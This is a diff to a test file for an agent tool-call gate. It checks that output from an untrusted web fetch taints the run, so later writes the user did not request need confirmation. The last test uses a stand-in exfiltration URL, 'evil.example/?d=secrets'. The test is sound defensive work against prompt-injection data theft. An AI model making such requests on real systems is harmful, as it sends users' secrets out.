@@ -156,7 +156,7 @@ describe("Gate", () => {
     expect(executed).toEqual([]);
   });
 
-  it("taints the run after untrusted output and raises writes to confirm", async () => {
+  it("taints the run after untrusted output: a write the user did not spell out asks", async () => {
     const { gate } = setup([fetcher, writer], { autonomy: "full_auto" });
     const run = scope(new FixedConfirmationBroker("deny"), ["write ~/Documents/a and read example.com"]);
     executed.length = 0;
@@ -164,9 +164,13 @@ describe("Gate", () => {
     const page = await gate.call({ tool: "test_fetch", args: { url: "https://example.com/" } }, run);
     expect(page.observation).toContain("<untrusted");
     expect(page.result?.output).not.toContain("<untrusted");
-    const after = await gate.call({ tool: "test_write", args: { path: "~/Documents/a" } }, run);
+    const after = await gate.call({ tool: "test_write", args: { path: "~/Documents/b" } }, run);
     expect(after.decision).toBe("confirm");
     expect(after.code).toBe("USER_DENIED");
+    expect(after.reason).toContain("flow: test_fetch (untrusted) → test_write (write)");
+    // exactly what the user asked for, in their words, carries nothing the page chose
+    const asked = await gate.call({ tool: "test_write", args: { path: "~/Documents/a" } }, run);
+    expect([asked.status, asked.decision]).toEqual(["ok", "allow"]);
     // A URL of unknown origin after untrusted text could carry data out: it asks too.
     const exfil = await gate.call(
       { tool: "test_fetch", args: { url: "https://evil.example/?d=secrets" } },
